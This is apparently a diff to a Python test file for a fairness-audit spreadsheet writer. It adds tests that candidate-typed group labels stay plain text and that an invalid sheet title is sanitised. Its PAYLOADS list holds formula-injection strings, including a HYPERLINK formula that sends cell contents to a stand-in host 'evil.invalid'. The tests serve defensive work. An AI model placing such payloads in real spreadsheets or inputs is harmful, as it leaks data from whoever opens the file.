@@ -3,11 +3,16 @@
 from __future__ import annotations
 
 import polars as pl
+import pytest
 from openpyxl import Workbook, load_workbook
 
 from pipelines.fairness.audit import audit_table
 from pipelines.fairness.sheet import write_fairness_sheet
+from tests.corpus.hostile import unsafe_parts, workbook_parts
 from tests.fairness.conftest import groups_frame
+
+# Self-identification answers a spreadsheet could read as formulas (they become group labels).
+PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", '=HYPERLINK("http://evil.invalid/?x="&A1,"c")']
 
 
 def _table(fairness) -> pl.DataFrame:
@@ -76,3 +81,29 @@ def test_sheet_without_protected_columns_says_there_is_nothing_to_audit(settings
 
     text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
     assert "nothing to audit" in text
+
+
+@pytest.mark.parametrize("write_only", [True, False])
+def test_group_labels_typed_by_candidates_stay_text(settings, tmp_path, write_only):
+    scored, protected = groups_frame("gender", [(p, 10, n) for n, p in enumerate(PAYLOADS)])
+    workbook = Workbook(write_only=write_only)
+
+    write_fairness_sheet(workbook, audit_table(scored, protected, settings.fairness), settings)
+    path = tmp_path / "audit.xlsx"
+    workbook.save(path)
+    sheet = load_workbook(path)["Fairness audit"]
+
+    assert unsafe_parts(workbook_parts(path)) == []
+    labels = [_row_of(sheet, payload)[0] for payload in PAYLOADS]
+    assert [(c.data_type, c.quotePrefix) for c in labels] == [("s", True)] * len(PAYLOADS)
+
+
+def test_a_title_excel_refuses_is_made_a_valid_sheet_name(settings, tmp_path):
+    workbook = Workbook()
+
+    sheet = write_fairness_sheet(
+        workbook, _table(settings.fairness), settings, title="Audit: 2026/Q1 [pooled]?"
+    )
+
+    assert sheet.title == "Audit 2026Q1 pooled"
+    assert sheet["A1"].value == "Audit: 2026/Q1 [pooled]?"
